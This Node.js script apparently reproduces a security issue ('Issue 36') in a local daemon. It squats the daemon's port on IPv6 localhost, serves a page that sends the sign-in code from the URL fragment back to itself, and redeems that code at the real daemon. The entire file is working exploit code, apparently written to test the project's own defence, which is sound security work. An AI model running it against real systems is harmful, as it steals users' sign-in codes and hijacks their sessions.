// Issue 36's localhost attack, run as another local user (uid 65534): listen on `[::1]:<port>` (and on
// `[::]:<port>`, IPv6 only), the daemon's port, where Chromium sends `localhost` first. Whatever it
// gets to serve, its page reads the sign-in link's code from `location.hash` and posts it back, and the
// code is redeemed at the daemon on 127.0.0.1 (with a made-up key, and without one as before keys).
// Reports each listen's outcome first; exits at once when it could listen nowhere. Node builtins only.
import { generateKeyPairSync } from "node:crypto";
import { createServer, request } from "node:http";

const port = Number(process.argv[2]);
const say = (line) => process.stdout.write(`${JSON.stringify(line)}\n`);

const page = `<!doctype html><html><head><meta charset="utf-8"><title>Floot</title></head><body><h1>Floot</h1>
<script>fetch("/report", { method: "POST", body: location.hash });</script></body></html>`;

function redeem(code, host, withKey) {
  const { x, y } = generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey.export({ format: "jwk" });
  const body = JSON.stringify(withKey ? { code, publicKey: { kty: "EC", crv: "P-256", x, y } } : { code });
  return new Promise((resolve) => {
    const headers = { host, origin: `http://${host}`, "content-type": "application/json" };
    const req = request({ host: "127.0.0.1", port, method: "POST", path: "/ui/sign-in", headers }, (res) => {
      res.resume();
      resolve(res.statusCode);
    });
    req.on("error", (error) => resolve(`error: ${error.code}`));
    req.end(body);
  });
}

function serve(host) {
  const server = createServer((req, res) => {
    let body = "";
    req.on("data", (chunk) => {
      body += chunk;
    });
    req.on("end", async () => {
      say({ seen: { host, method: req.method, url: req.url } });
      if (req.url !== "/report") {
        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
        res.end(page);
        return;
      }
      res.end("ok");
      const code = /^#login=([A-Za-z0-9_-]{43})$/.exec(body)?.[1];
      const redeemed = [];
      if (code !== undefined) {
        for (const claimed of [`127.0.0.1:${port}`, `localhost:${port}`]) {
          redeemed.push(await redeem(code, claimed, true), await redeem(code, claimed, false));
        }
      }
      say({ stolen: body, redeemed });
    });
  });
  return new Promise((resolve) => {
    server.once("error", (error) => resolve(error.code));
    server.listen({ port, host, ipv6Only: true }, () => resolve("listening"));
  });
}

const listen = { "::1": await serve("::1"), "::": await serve("::") };
say({ uid: process.getuid(), listen });
if (!Object.values(listen).includes("listening")) process.exit(0);
